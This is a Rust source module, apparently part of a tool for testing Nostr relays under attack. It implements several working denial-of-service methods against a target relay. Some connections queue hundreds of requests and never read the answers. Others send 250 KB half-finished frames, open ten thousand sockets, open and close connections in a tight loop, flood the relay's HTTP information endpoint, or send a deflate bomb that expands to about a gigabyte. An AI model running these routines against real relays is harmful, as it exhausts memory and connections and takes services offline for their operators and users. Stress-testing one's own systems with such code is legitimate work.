//! Those who harm by their connections alone.

use std::{
    io::Write,
    time::{Duration, Instant},
};

use flate2::{Compression, write::DeflateEncoder};
use futures::{StreamExt, future::join_all, stream};
use tokio::{
    io::{AsyncWriteExt, copy, sink},
    time::{sleep, sleep_until, timeout, timeout_at},
};

use super::attack::Field;
use crate::socket::{self, Socket};

/// Those who do not read: each may cost the relay an outbox.
const READERS: usize = 20;
/// Questions of each: the answers are some tens of megabytes.
const QUESTIONS: usize = 100;
/// Half frames at a time.
const HALVES: usize = 1_000;
/// Handshakes at a time.
const HANDSHAKES: usize = 64;

/// They ask for all there is.
async fn ask(field: &Field) -> Option<Socket> {
    let mut socket = field.connect().await?;
    for nth in 0..QUESTIONS {
        socket.queue(&[format!(r#"["REQ","{nth}",{{"limit":500}}]"#).as_bytes()]);
        field.done.borrow_mut().did += 1;
    }
    // Not beyond the time: the relay may have stopped to listen.
    let _stuck = timeout(Duration::from_secs(1), socket.flush()).await;
    Some(socket)
}

pub async fn never_read(field: &Field) {
    join_all((0..READERS).map(|_| async {
        let _held = ask(field).await;
        sleep_until(field.until.into()).await;
    }))
    .await;
}

pub async fn sip(field: &Field) {
    join_all((0..READERS).map(|_| async {
        let Some(mut socket) = ask(field).await else {
            return;
        };
        while Instant::now() < field.until {
            sleep(Duration::from_secs(1)).await;
            if socket.sip().await.is_err() {
                field.done.borrow_mut().ended += 1;
                return;
            }
        }
    }))
    .await;
}

/// The first half of a message that is as long as may be; one in two is a fragment as well.
pub async fn half_frames(field: &Field) {
    let half = vec![b'['; 250_000];
    join_all((0..HALVES).map(|nth| {
        let half = &half;
        async move {
            let Some(mut socket) = field.connect().await else {
                return;
            };
            socket.queue_half(half, nth % 2 == 0);
            let _stuck = timeout(Duration::from_secs(2), socket.flush()).await;
            field.done.borrow_mut().did += 1;
            sleep_until(field.until.into()).await;
        }
    }))
    .await;
}

pub async fn ten_thousand(field: &Field) {
    let sockets: Vec<_> = stream::iter(0..10_000)
        .map(|_| async {
            if Instant::now() < field.until {
                field.enter().await
            } else {
                None
            }
        })
        .buffer_unordered(HANDSHAKES)
        .collect()
        .await;
    sleep_until(field.until.into()).await;
    drop(sockets);
}

pub async fn open_and_close(field: &Field) {
    join_all((0..HANDSHAKES).map(|_| async {
        while Instant::now() < field.until {
            let socket = field.connect().await;
            if socket.is_none() {
                sleep(Duration::from_millis(10)).await;
            }
        }
    }))
    .await;
}

pub async fn documents(field: &Field) {
    let target = &field.target;
    let question = format!(
        "GET {} HTTP/1.1\r\nHost: {}\r\nAccept: application/nostr+json\r\n\r\n",
        target.path, target.address
    );
    join_all((0..HANDSHAKES).map(|_| async {
        while Instant::now() < field.until {
            let Ok(stream) = socket::open(target, field.source).await else {
                sleep(Duration::from_millis(10)).await;
                continue;
            };
            let ((mut answers, mut questions), mut nowhere) = (stream.into_split(), sink());
            let asking = async {
                while questions.write_all(question.as_bytes()).await.is_ok() {
                    field.done.borrow_mut().did += 1;
                }
            };
            let both = async {
                tokio::select! {
                    () = asking => {}
                    _ = copy(&mut answers, &mut nowhere) => {}
                }
            };
            if timeout_at(field.until.into(), both).await.is_ok() {
                field.done.borrow_mut().ended += 1;
            }
        }
    }))
    .await;
}

pub async fn deflate_bombs(field: &Field) {
    let mut bomb = DeflateEncoder::new(Vec::new(), Compression::best());
    let megabyte = vec![0; 1 << 20];
    for _ in 0..1024 {
        // Writing to memory does not fail.
        let _ = bomb.write_all(&megabyte);
    }
    let bomb = bomb.finish().unwrap_or_default();
    join_all((0..4).map(|_| async {
        while Instant::now() < field.until {
            let compressed = Socket::connect_compressed(&field.target, field.source).await;
            let Ok(mut socket) = compressed else {
                field.done.borrow_mut().ended += 1;
                sleep(Duration::from_millis(10)).await;
                continue;
            };
            field.done.borrow_mut().did += 1;
            socket.queue_compressed(&bomb);
            let ended = async { while socket.flush().await.is_ok() && socket.read(|_| {}).await.is_ok() {} };
            if timeout(Duration::from_secs(5), ended).await.is_ok() {
                field.done.borrow_mut().ended += 1;
            }
        }
    }))
    .await;
}

impl Field {
    /// A connection, if the relay lets one in.
    pub async fn connect(&self) -> Option<Socket> {
        let socket = Socket::connect(&self.target, self.source).await.ok();
        let mut done = self.done.borrow_mut();
        match socket {
            Some(_) => done.did += 1,
            None => done.ended += 1,
        }
        socket
    }

    /// A connection that has been welcomed with the challenge: who is turned away hears a close instead.
    async fn enter(&self) -> Option<Socket> {
        let mut socket = self.connect().await?;
        let mut is_welcome = socket.has_been_told();
        if is_welcome {
            return Some(socket);
        }
        let first = socket.read(|_| is_welcome = true);
        if timeout(Duration::from_secs(5), first).await.is_err() || !is_welcome {
            self.done.borrow_mut().ended += 1;
            return None;
        }
        Some(socket)
    }
}
